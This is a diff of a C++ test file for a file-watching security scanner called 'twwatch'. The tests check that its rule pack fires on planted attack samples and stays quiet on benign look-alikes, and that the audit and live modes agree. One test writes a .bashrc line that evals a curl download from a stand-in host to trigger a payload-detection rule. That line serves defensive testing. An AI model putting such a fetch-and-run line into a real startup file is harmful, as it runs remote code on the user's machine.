@@ -1,11 +1,14 @@
-// Every rule of the bundled pack against real files: each case plants one sample (an attack, or a
-// benign look-alike) where it would land in a developer's tree, runs `twwatch --scan` on the tree and
-// checks which rules fire at which severity. The cases live in tests/data/rules/cases/*.tsv.
+// Every rule of the bundled pack against real files, through the real twwatch: each case plants one
+// sample (an attack, or a benign look-alike) where it would land in a developer's tree, in a folder of
+// its own. The cases live in tests/data/rules/cases/*.tsv.
 
 #include "RuleCases.h"
 #include "ScanRunner.h"
+#include "WatcherHarness.h"
 
+#include <algorithm>
 #include <gtest/gtest.h>
+#include <map>
 #include <set>
 #include <sstream>
 
@@ -13,14 +16,6 @@ namespace fs = std::filesystem;
 using namespace tw::test;
 
 namespace {
-
-class RulesPack : public ::testing::TestWithParam<RuleCase>
-{
-protected:
-    void SetUp() override { useConfigHome(m_config.path()); }
-    TempDir m_config; // empty: only the bundled pack loads
-    TempDir m_tree;
-};
 
 std::string describe(const std::vector<Event>& events)
 {
@@ -30,42 +25,92 @@ std::string describe(const std::vector<Event>& events)
     return s.empty() ? "  (nothing)\n" : s;
 }
 
-TEST_P(RulesPack, FiresOnlyWhereItShould)
+// "path rule (severity)" for each finding, the harness's match-everything lines left out.
+std::set<std::string> findings(const std::vector<WatchLine>& events)
 {
-    const RuleCase& c = GetParam();
-    const fs::path target = m_tree / c.destination;
-    plantSample(c, target);
-
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    ASSERT_EQ(r.process.exitCode, 0) << r.process.err;
-    ASSERT_TRUE(r.allLinesDecoded) << r.process.out;
-    const std::string found = describe(r.events);
-
-    bool expectedSeen = false;
-    for (const auto& e : r.events) {
-        EXPECT_EQ(e.path, target.string());
-        EXPECT_TRUE(e.types.empty()) << "an audit reports no change words";
-        if (e.rule == c.rule) {
-            EXPECT_TRUE(c.fires) << c.rule << " fired on a benign look-alike:\n" << found;
-            EXPECT_EQ(e.severity, c.severity) << found;
-            expectedSeen = true;
-        } else {
-            EXPECT_TRUE(c.alsoAllowed.count(e.rule)) << "unexpected rule " << e.rule << ":\n" << found;
-        }
-    }
-    if (c.fires)
-        EXPECT_TRUE(expectedSeen) << c.rule << " did not fire on " << c.destination << ":\n" << found;
-    // One finding per rule and file, never the same rule twice.
-    std::set<std::string> rules;
-    for (const auto& e : r.events)
-        EXPECT_TRUE(rules.insert(e.rule).second) << found;
+    std::set<std::string> out;
+    for (const auto& e : events)
+        if (e.rule != matchEverything)
+            out.insert(e.path + " " + e.rule + " (" + e.severity + ")");
+    return out;
 }
 
-INSTANTIATE_TEST_SUITE_P(Cases, RulesPack, ::testing::ValuesIn(ruleCases()),
-                         [](const ::testing::TestParamInfo<RuleCase>& info) { return info.param.name; });
+// The entries of `from` that `without` lacks, one per line.
+std::string lines(const std::set<std::string>& from, const std::set<std::string>& without)
+{
+    std::string s;
+    for (const auto& f : from)
+        if (!without.count(f))
+            s += "  " + f + "\n";
+    return s;
+}
+
+// One audit must find on each case exactly its rule at its severity, or nothing of it on a look-alike,
+// and never a rule twice on one file. The live watcher compiles the whole pack into one set and keeps a
+// match only inside its own file's scope, where an audit compiles a set per scope: it must find the same.
+TEST(RulesPack, EachCaseFiresOnlyWhereItShouldInAnAuditAndLive)
+{
+    TempDir tree;
+    TempDir staging;
+    // The pack's conditions check paths themselves; this file's rules rely on its scope alone.
+    WatcherSetup setup;
+    setup.rules.emplace_back("scoped.yar", "// twwatch-scope: package.json */.git/hooks/*\n"
+                                           "rule user_scoped { meta: severity = \"high\" condition: true }\n"
+                                           "rule user_scoped_refused { condition: true }\n");
+    // The folders are there before the watcher starts, and each sample arrives whole by a rename, so
+    // the watcher never evaluates a half-copied file.
+    for (const auto& c : ruleCases())
+        fs::create_directories((tree / c.name / c.destination).parent_path());
+    Watcher watcher(setup);
+    useConfigHome(watcher.configHome()); // the audit below reads the same rules
+    watcher.send({tree.path()});
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    for (const auto& c : ruleCases()) {
+        plantSample(c, staging / c.name);
+        fs::rename(staging / c.name, tree / c.name / c.destination);
+    }
+
+    const ScanResult audit = runTwwatch({"--scan", tree.path().string()});
+    ASSERT_EQ(audit.process.exitCode, 0) << audit.process.err;
+    ASSERT_TRUE(audit.allLinesDecoded) << audit.process.out;
+    std::map<std::string, std::vector<Event>> byCase;
+    for (const auto& e : audit.events) {
+        EXPECT_TRUE(e.types.empty()) << "an audit reports no change words";
+        if (e.rule != matchEverything && e.rule != "user_scoped")
+            byCase[fs::path(e.path).lexically_relative(tree.path()).begin()->string()].push_back(e);
+    }
+    for (const auto& c : ruleCases()) {
+        SCOPED_TRACE(c.name);
+        const std::string found = describe(byCase[c.name]);
+        bool expectedSeen = false;
+        std::set<std::string> rules;
+        for (const auto& e : byCase[c.name]) {
+            EXPECT_EQ(e.path, (tree / c.name / c.destination).string());
+            EXPECT_TRUE(rules.insert(e.rule).second) << found;
+            if (e.rule == c.rule) {
+                EXPECT_TRUE(c.fires) << c.rule << " fired on a benign look-alike:\n" << found;
+                EXPECT_EQ(e.severity, c.severity) << found;
+                expectedSeen = true;
+            } else {
+                EXPECT_TRUE(c.alsoAllowed.count(e.rule)) << "unexpected rule " << e.rule << ":\n" << found;
+            }
+        }
+        if (c.fires)
+            EXPECT_TRUE(expectedSeen) << c.rule << " did not fire on " << c.destination << ":\n" << found;
+    }
+    const std::set<std::string> expected = findings(audit.events);
+    ASSERT_TRUE(std::any_of(expected.begin(), expected.end(),
+                            [](auto& f) { return f.ends_with("package.json user_scoped (high)"); }));
+
+    waitUntil([&] { return lines(expected, findings(watcher.lines())).empty(); }, std::chrono::seconds(40));
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log(); // a late extra finding would be in by now
+    const std::set<std::string> live = findings(watcher.lines());
+    EXPECT_EQ(lines(expected, live), "") << "found by the audit only";
+    EXPECT_EQ(lines(live, expected), "") << "found by the watcher only";
+}
 
 // Every rule the pack loads has at least one attack that fires it and one look-alike that does not.
-TEST(RulesPackTable, EveryRuleHasAnAttackAndALookAlike)
+TEST(RulesPack, EveryRuleHasAnAttackAndALookAlike)
 {
     EXPECT_EQ(malformedCaseRows(), std::vector<std::string>{});
     TempDir config;
@@ -88,6 +133,49 @@ TEST(RulesPackTable, EveryRuleHasAnAttackAndALookAlike)
     }
     for (const auto& rule : attacked)
         EXPECT_TRUE(loaded.count(rule)) << "the cases name " << rule << ", which the pack does not load";
+}
+
+// A hook that gains the executable bit is reported; chmod 600 and touch are routine for keys and
+// startup files, a change of their content is not.
+TEST(RulesPack, ChangeWordsReachThePackLive)
+{
+    TempDir tree;
+    Watcher watcher;
+    watcher.send({tree.path()});
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    const auto count = [&](const fs::path& path, const char* rule) {
+        return watcher.linesFor(path.string(), rule).size();
+    };
+    const auto waitFor = [&](const fs::path& path, const char* rule) {
+        return watcher.waitForPaths({path.string()}, std::chrono::seconds(20), rule);
+    };
+    const fs::path hook = tree / ".git/hooks/pre-commit";
+    const fs::path keys = tree / ".ssh/authorized_keys";
+    const fs::path bashrc = tree / ".bashrc";
+    fs::create_directories(hook.parent_path());
+    fs::create_directories(keys.parent_path());
+    writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
+    writeFile(
+        keys,
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
+    writeFile(bashrc, "alias ll='ls -la'\n");
+    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << watcher.log();
+    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << watcher.log();
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    EXPECT_EQ(count(hook, "git_hook_added"), 0u) << "git ignores a hook it cannot run";
+    const auto keysBefore = count(keys, "ssh_authorized_key_added");
+    const auto bashrcBefore = count(bashrc, "shell_startup_file_changed");
+
+    fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
+    fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
+    fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
+    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << watcher.log();
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
+    EXPECT_EQ(count(keys, "ssh_authorized_key_added"), keysBefore);
+    EXPECT_EQ(count(bashrc, "shell_startup_file_changed"), bashrcBefore);
+
+    writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
+    EXPECT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << watcher.log();
 }
 
 } // namespace
